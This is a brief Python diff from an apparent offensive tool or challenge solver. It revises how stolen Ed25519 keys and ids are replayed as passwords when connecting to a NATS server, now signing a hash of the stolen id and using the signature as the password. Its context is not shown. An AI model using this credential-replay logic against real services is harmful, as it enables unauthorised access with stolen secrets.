@@ -52,7 +52,7 @@ async def key(stolen: dict[str, Any]) -> dict[str, Any]:
     private = Ed25519PrivateKey.from_private_bytes(base64.b64decode(stolen["private"]))
     signature = private.sign(hashlib.sha256(stolen["id"].encode()).digest())
     told = []
-    for user, password in (("", ""), (stolen["service"], stolen["private"]), (stolen["service"], stolen["id"])):
+    for user, password in (("", ""), (stolen["service"], signature.hex()), (stolen["service"], stolen["id"])):
         entry = f"{user}:{password}@" if user else ""
         try:
             client = await nats.connect(
